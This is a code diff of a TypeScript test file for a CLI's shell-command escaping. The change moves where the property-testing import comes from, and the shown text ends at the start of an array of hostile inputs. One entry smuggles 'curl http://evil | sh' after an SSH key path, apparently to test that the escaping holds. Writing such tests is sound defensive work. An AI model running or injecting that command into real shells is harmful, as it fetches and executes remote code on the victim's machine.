@@ -3,10 +3,10 @@ import { execFileSync } from 'node:child_process';
 import { globSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, test } from 'node:test';
-import fc from 'fast-check';
 import { command, ec2Id, idOr, shellWord } from '../../src/cli/shell-command.ts';
 import { printable } from '../../src/cli/terminal.ts';
 import { remoteFailure } from '../../src/keys/remote-failure.ts';
+import { fc } from '../property.ts';
 
 const hostile = [
   '/root/.ssh/x; curl http://evil | sh #',
